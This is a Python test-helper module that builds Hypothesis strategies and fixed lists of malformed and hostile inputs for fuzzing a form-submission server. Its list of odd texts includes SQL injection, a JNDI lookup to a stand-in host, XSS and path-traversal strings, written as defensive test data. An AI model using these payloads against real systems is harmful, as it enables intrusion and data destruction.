"""Values, texts and bodies that nobody sends by accident, and strategies that make more of them."""

from __future__ import annotations

import json
from collections.abc import Iterable
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from server.domain.attribution import CLICK_ID_FIELDS, UTM_FIELDS
from server.domain.lead_fields import CONTROL_FIELDS, SYNONYMS

JSON, URLENCODED = "application/json", "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=cut"

UNICODE = {
    "composed": "Zo\u00eb",
    "decomposed": "Zoe\u0308",
    "four bytes": "🏠𝔘𐍈",
    "a family of seven code points": "👩‍👩‍👧‍👦",
    "right to left": "\u202eseldaeh\u202c \u200fשלום مرحبا",
    "a byte order mark inside": "a\ufeffb",
    "line separators": "a\u2028b\u2029c\u0085d",
    "no characters": "\ufffe\uffff\U0010ffff",
    "letters that change length by case": "İSTANBUL ß ﬀ",
    "combining marks without end": "e" + "\u0301" * 500,
    "what looks like Latin": "раурaӏ",
    "a terminal's orders": "a\x1b[2J\x07\x7f",
    "full width": "ａｎａ＠ｅｘａｍｐｌｅ",
}

ODD_TEXTS = [
    *UNICODE.values(),
    "",
    " \t\r\n",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "%00%ff",
    "+ADw-script+AD4-",
    "'); DROP TABLE Leads; --",
    "${jndi:ldap://x.example}{{7*7}}",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "-0",
    "1e400",
    "9" * 400,
    "true",
    "[[[[",
    "x" * 3_000,
]

ODD_NUMBERS = ["-0", "-0.0", "1e400", "-1e400", "1E-400", "9" * 400, "0.1e1", "NaN", "Infinity"]

CHARSETS = ["utf-8", "UTF-16", "utf-7", "shift_jis", "latin-1", "iso-2022-jp", "gb18030", "koi8-u"]
"""Those that a form is read in."""

TEXTS = st.sampled_from(ODD_TEXTS) | st.text(st.characters(exclude_categories=()), max_size=20)
"""Any text there is, half of a surrogate pair included."""

NAMES = st.sampled_from(
    [
        *(alias for aliases in SYNONYMS.values() for alias in aliases),
        *(f"__{name}" for name in sorted(CONTROL_FIELDS)),
        *("__pgState", "SOURCE", "timeToSubmit", "First Name", "__proto__", "lead_id", "ip"),
        *UTM_FIELDS,
        *CLICK_ID_FIELDS,
    ]
)
"""Names that a lead's fields are known by, and some that must not be."""


def _array(items: Iterable[str]) -> str:
    return f"[{','.join(items)}]"


def json_object(pairs: Iterable[tuple[str, str]]) -> str:
    """An object of JSON texts by name; a name may come several times."""
    return f"{{{','.join(f'{json.dumps(name)}:{value}' for name, value in pairs)}}}"


JSON_TEXTS: SearchStrategy[str] = st.recursive(
    TEXTS.map(json.dumps)
    | st.sampled_from([*ODD_NUMBERS, "null", "true", "false", "[]", "{}"])
    | st.integers().map(str)
    | st.floats(allow_nan=False, allow_infinity=False).map(json.dumps),
    lambda inner: (
        st.lists(inner, max_size=3).map(_array)
        | st.lists(st.tuples(TEXTS, inner), max_size=3).map(json_object)
    ),
    max_leaves=6,
)
"""Any JSON value as text, also with names that come twice and numbers that JSON forbids."""


def nested(levels: int) -> str:
    """Arrays within arrays."""
    return "[" * levels + "]" * levels


def clean(text: str) -> str:
    """What is stored of a text: no NUL, no half of a surrogate pair, no space around it."""
    whole = text.replace("\x00", "").encode("utf-16", "surrogatepass")
    return whole.decode("utf-16", "replace").strip()


def part(name: str, value: bytes = b"x", *headings: str) -> bytes:
    """One part of a multipart body cut by `cut`."""
    lines = (f'Content-Disposition: form-data; name="{name}"', *headings, "", "")
    return b"--cut\r\n" + "\r\n".join(lines).encode() + value + b"\r\n"


END = b"--cut--\r\n"


def loaded(body: str) -> dict[str, Any]:
    """The body as Python reads it."""
    fields: dict[str, Any] = json.loads(body)
    return fields
